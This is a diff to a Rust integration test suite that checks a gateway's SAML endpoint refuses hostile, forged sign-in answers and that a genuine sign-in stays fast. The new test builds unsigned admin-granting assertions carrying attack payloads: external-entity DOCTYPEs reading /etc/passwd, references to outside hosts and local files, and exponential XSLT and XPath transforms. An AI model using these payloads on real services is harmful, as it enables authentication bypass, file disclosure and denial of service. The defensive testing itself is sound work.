@@ -28,6 +28,8 @@ struct World {
     driver: Driver,
     /// The UI's address as the browser reaches it.
     public_url: String,
+    /// Where the UI listens.
+    ui_addr: SocketAddr,
     shots: Shots,
     _proxy: Option<TamperProxy>,
 }
@@ -41,6 +43,8 @@ struct Options {
     tamper_proxy: bool,
     /// How the IdP names attributes and what it signs.
     idp_style: idp::Style,
+    /// Serve the UI over plain HTTP (the test posts raw answers to it).
+    plain_http: bool,
 }
 
 impl World {
@@ -51,6 +55,7 @@ impl World {
         let proxy = opts.tamper_proxy.then(|| TamperProxy::start(ui_addr));
         let public_url = match &proxy {
             Some(p) => format!("http://sp.localhost:{}", p.addr.port()),
+            None if opts.plain_http => format!("http://sp.localhost:{}", ui_addr.port()),
             None => format!("https://sp.localhost:{}", ui_addr.port()),
         };
         let entity_id = format!("{public_url}/saml/metadata");
@@ -60,7 +65,7 @@ impl World {
             opts.idp_clock,
             opts.idp_style,
         );
-        let tls = if opts.tamper_proxy {
+        let tls = if opts.tamper_proxy || opts.plain_http {
             String::new()
         } else {
             let key = rcgen::KeyPair::generate().unwrap();
@@ -83,7 +88,11 @@ impl World {
             "\n[admin.saml]\nidp_metadata = \"{}\"\nsp_entity_id = \"{entity_id}\"\nemail_attribute = \"{mail}\"\nname_attribute = \"{name}\"\ngroups_attribute = \"{groups}\"\nadmin_group = \"{}\"\n",
             idp.metadata_url(),
             idp::ADMIN_GROUP,
-        );
+        ) + if opts.idp_style == idp::Style::LemonLdap {
+            "groups_separator = \";\"\n"
+        } else {
+            ""
+        };
         let gw = Gateway::start_in(dir, &config);
         World {
             sink,
@@ -91,6 +100,7 @@ impl World {
             idp,
             driver: Driver::start(),
             public_url,
+            ui_addr,
             shots,
             _proxy: proxy,
         }
@@ -203,7 +213,7 @@ where
     let shots: Shots = Arc::default();
     let world = Arc::new(World::start(opts, shots.clone()));
     let result = tokio::spawn(f(world.clone())).await;
-    if let Err(e) = result {
+    if result.is_err() {
         let clients = shots.lock().unwrap().clone();
         for (who, c) in clients {
             if let Ok(png) = c.screenshot().await {
@@ -217,6 +227,13 @@ where
             world.gw.log(),
             tail(&world.idp.log(), 4000)
         );
+    }
+    // End every WebDriver session (the browser quits), then the driver.
+    let clients = std::mem::take(&mut *shots.lock().unwrap());
+    for (_, c) in clients {
+        let _ = c.close().await;
+    }
+    if let Err(e) = result {
         std::panic::resume_unwind(e.into_panic());
     }
 }
@@ -684,4 +701,305 @@ async fn adfs_and_lemonldap_answers_sign_in_as_deploy_md_configures_them() {
         })
         .await;
     }
+}
+
+// ---------------------------------------------------------------------------
+// Hostile answers posted to /saml/acs by someone with no IdP account
+// (issue 20): nothing may leave the document, nothing may stall a sign-in.
+// ---------------------------------------------------------------------------
+
+/// A TCP listener that counts the connections it gets; it answers each
+/// with a small body, or holds it open without a word (`silent`).
+struct Listener {
+    addr: SocketAddr,
+    hits: Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Listener {
+    fn start(silent: bool) -> Listener {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = l.local_addr().unwrap();
+        let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let h = hits.clone();
+        std::thread::spawn(move || {
+            let mut held = Vec::new();
+            for conn in l.incoming().flatten() {
+                h.fetch_add(1, Ordering::SeqCst);
+                if silent {
+                    held.push(conn);
+                } else {
+                    let mut c = conn;
+                    let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nleak!");
+                }
+            }
+        });
+        Listener { addr, hits }
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(Ordering::SeqCst)
+    }
+}
+
+/// One HTTP/1.1 exchange with the UI from the loopback address `from`
+/// (each attacker its own address, as the UI counts failures per
+/// address): (status, headers and body, time to the whole answer).
+async fn http_from(
+    ui: SocketAddr,
+    from: std::net::Ipv4Addr,
+    request: String,
+) -> (u16, String, Duration) {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let start = Instant::now();
+    let sock = tokio::net::TcpSocket::new_v4().unwrap();
+    sock.bind(SocketAddr::from((from, 0))).unwrap();
+    let mut stream = sock.connect(ui).await.unwrap();
+    stream.write_all(request.as_bytes()).await.unwrap();
+    let mut out = Vec::new();
+    tokio::time::timeout(Duration::from_secs(30), stream.read_to_end(&mut out))
+        .await
+        .expect("the UI answered within 30 s")
+        .unwrap();
+    let text = String::from_utf8_lossy(&out).into_owned();
+    let status = text
+        .split(' ')
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    (status, text, start.elapsed())
+}
+
+/// Starts a sign-in as anyone can (`GET /saml/login`) and returns the id of
+/// the request the UI now waits an answer for.
+async fn pending_request_id(ui: SocketAddr, host: &str, from: std::net::Ipv4Addr) -> String {
+    use std::io::Read as _;
+    let (status, text, _) = http_from(
+        ui,
+        from,
+        format!("GET /saml/login HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
+    )
+    .await;
+    assert_eq!(status, 303, "{text}");
+    let location = text
+        .lines()
+        .find_map(|l| l.strip_prefix("location: "))
+        .expect("a redirection to the IdP");
+    let encoded = location
+        .split(['?', '&'])
+        .find_map(|p| p.strip_prefix("SAMLRequest="))
+        .unwrap();
+    let deflated = base64::Engine::decode(
+        &base64::engine::general_purpose::STANDARD,
+        url_decode(encoded),
+    )
+    .unwrap();
+    let mut xml = String::new();
+    flate2::read::DeflateDecoder::new(&deflated[..])
+        .read_to_string(&mut xml)
+        .unwrap();
+    let id = xml.split("ID=\"").nth(1).unwrap();
+    id[..id.find('"').unwrap()].to_string()
+}
+
+/// A hand-written, unsigned answer to `request_id` granting admin rights,
+/// with one `ds:Signature` whose reference is `uri` through `transforms`;
+/// `prolog` goes before the root, `object` inside the signature.
+fn forged_answer(
+    request_id: &str,
+    uri: &str,
+    transforms: &str,
+    prolog: &str,
+    object: &str,
+) -> String {
+    format!(
+        r##"{prolog}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_forged" Version="2.0" IssueInstant="2026-01-01T00:00:00Z" InResponseTo="{request_id}"><saml:Issuer>attacker</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="{uri}"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue>{object}</ds:Signature><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_fa" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>attacker</saml:Issuer><saml:Subject><saml:NameID>admin</saml:NameID></saml:Subject><saml:AttributeStatement><saml:Attribute Name="email"><saml:AttributeValue>{}</saml:AttributeValue></saml:Attribute><saml:Attribute Name="groups"><saml:AttributeValue>{}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion>{}</samlp:Response>"##,
+        idp::ADMIN_EMAIL,
+        idp::ADMIN_GROUP,
+        // A few thousand empty elements for the XPath transform to walk.
+        if transforms.contains("xpath") {
+            "<e/>".repeat(3000)
+        } else {
+            String::new()
+        },
+    )
+}
+
+/// Every hostile answer of the probe, by name: references to a listener
+/// that answers, to one that never does, to a local file; an XSLT
+/// transform whose templates double at every level; an XPath transform
+/// over thousands of elements; a manifest; a DOCTYPE with external
+/// entities.
+fn hostile_answers(
+    request_id: &str,
+    listener: SocketAddr,
+    silent: SocketAddr,
+) -> Vec<(&'static str, String)> {
+    let enveloped = r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
+    let xslt = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:call-template name="t"><xsl:with-param name="n" select="40"/></xsl:call-template></xsl:template><xsl:template name="t"><xsl:param name="n"/><xsl:if test="$n &gt; 0"><xsl:call-template name="t"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template><xsl:call-template name="t"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet></ds:Transform>"#;
+    let xpath = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>count(//e[count(preceding::e) &gt;= count(following::e)]) &gt;= 0</ds:XPath></ds:Transform>"#;
+    let manifest = format!(
+        r#"<ds:Object><ds:Manifest><ds:Reference URI="http://{listener}/manifest"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:Manifest></ds:Object>"#
+    );
+    let doctype = format!(
+        r#"<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://{listener}/dtd"> %remote; <!ENTITY passwd SYSTEM "file:///etc/passwd">]>"#
+    );
+    vec![
+        (
+            "reference to a listener",
+            forged_answer(
+                request_id,
+                &format!("http://{listener}/fetch"),
+                enveloped,
+                "",
+                "",
+            ),
+        ),
+        (
+            "reference to a file",
+            forged_answer(request_id, "file:///etc/passwd", enveloped, "", ""),
+        ),
+        (
+            "reference to a silent host",
+            forged_answer(
+                request_id,
+                &format!("http://{silent}/hang"),
+                enveloped,
+                "",
+                "",
+            ),
+        ),
+        (
+            "XSLT transform",
+            forged_answer(request_id, "#_fa", xslt, "", ""),
+        ),
+        (
+            "XPath transform",
+            forged_answer(request_id, "#_fa", xpath, "", ""),
+        ),
+        (
+            "manifest",
+            forged_answer(request_id, "#_fa", enveloped, "", &manifest),
+        ),
+        (
+            "DOCTYPE",
+            forged_answer(request_id, "#_fa", enveloped, &doctype, ""),
+        ),
+    ]
+}
+
+fn acs_post(host: &str, xml: &str) -> String {
+    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, xml);
+    let body = format!("SAMLResponse={}&RelayState=%2F", url_encode(&b64));
+    format!(
+        "POST /saml/acs HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_answers_reach_nothing_and_cannot_stall_a_genuine_sign_in() {
+    let opts = Options {
+        plain_http: true,
+        ..Options::default()
+    };
+    scenario("hostile-acs", opts, |w| async move {
+        let ui = w.ui_addr;
+        let host = w.public_url.trim_start_matches("http://").to_string();
+        let listener = Listener::start(false);
+        let silent = Listener::start(true);
+
+        // Each hostile answer, each from its own address, to a request the
+        // attacker started: refused within a second, reaching nothing.
+        for (i, (what, xml)) in hostile_answers(
+            &pending_request_id(ui, &host, [127, 0, 2, 1].into()).await,
+            listener.addr,
+            silent.addr,
+        )
+        .into_iter()
+        .enumerate()
+        {
+            let from = std::net::Ipv4Addr::new(127, 0, 3, 1 + i as u8);
+            let (status, text, took) = http_from(ui, from, acs_post(&host, &xml)).await;
+            assert_eq!(status, 403, "{what}: {text}");
+            assert!(
+                took < Duration::from_secs(1),
+                "{what}: answered in {took:?}"
+            );
+        }
+        assert_eq!(listener.hits(), 0, "the listener was reached");
+        assert_eq!(silent.hits(), 0, "the silent host was reached");
+        let log = w.gw.log();
+        assert!(
+            !log.contains("root:x:0:0"),
+            "/etc/passwd reached the log:\n{log}"
+        );
+        assert!(log.contains("SAML sign-in refused"), "{log}");
+        for reason in [
+            "points outside the answer",
+            "Transform uses the algorithm",
+            "ds:Object",
+            "DOCTYPE",
+        ] {
+            assert!(
+                log.contains(reason),
+                "no refusal naming {reason:?} in the log:\n{log}"
+            );
+        }
+        let (_, audit, _) = w.gw.cli(&["audit", "export"]);
+        assert!(
+            audit.contains("login_failed") && audit.contains("DOCTYPE"),
+            "{audit}"
+        );
+
+        // Failures count against the address, as the local admin's do.
+        let from = std::net::Ipv4Addr::new(127, 0, 4, 1);
+        let (_, xml) = hostile_answers("_x", listener.addr, silent.addr).remove(0);
+        let mut statuses = Vec::new();
+        for _ in 0..7 {
+            statuses.push(http_from(ui, from, acs_post(&host, &xml)).await.0);
+        }
+        assert_eq!(statuses, [403, 403, 403, 403, 403, 429, 429]);
+
+        // A genuine agent signs in while twenty hostile answers arrive.
+        let agent = w.browser("agent").await;
+        agent.goto(&format!("{}/", w.public_url)).await;
+        agent.click("a.button[href^='/saml/login']").await;
+        agent.wait_text("password").await;
+        agent.fill("#username", idp::AGENT.0).await;
+        agent.fill("#password", idp::AGENT.1).await;
+        let request_id = pending_request_id(ui, &host, [127, 0, 2, 2].into()).await;
+        let answers = hostile_answers(&request_id, listener.addr, silent.addr);
+        let mut burst = Vec::new();
+        for i in 0..20u8 {
+            let xml = answers[i as usize % answers.len()].1.clone();
+            let host = host.clone();
+            burst.push(tokio::spawn(async move {
+                let from = std::net::Ipv4Addr::new(127, 0, 5, 1 + i);
+                http_from(ui, from, acs_post(&host, &xml)).await
+            }));
+        }
+        let start = Instant::now();
+        agent.click("#submit_button").await;
+        let page = agent.wait_text("Mes pièces jointes retenues").await;
+        let took = start.elapsed();
+        assert!(page.contains("Alice Martin"), "{page}");
+        for b in burst {
+            let (status, text, t) = b.await.unwrap();
+            assert_eq!(status, 403, "{text}");
+            assert!(t < Duration::from_secs(1), "a hostile answer took {t:?}");
+        }
+        assert!(
+            took < Duration::from_secs(2),
+            "the genuine sign-in took {took:?}"
+        );
+        assert_eq!(listener.hits() + silent.hits(), 0);
+
+        // A group merely named `x;quarantine-admins`, with no separator
+        // configured, gives no admin rights.
+        let intruder = w.browser("intruder").await;
+        intruder.goto(&format!("{}/admin", w.public_url)).await;
+        w.sign_in_at_idp(&intruder, idp::INTRUDER).await;
+        intruder.wait_text("réservée aux administrateurs").await;
+    })
+    .await;
 }
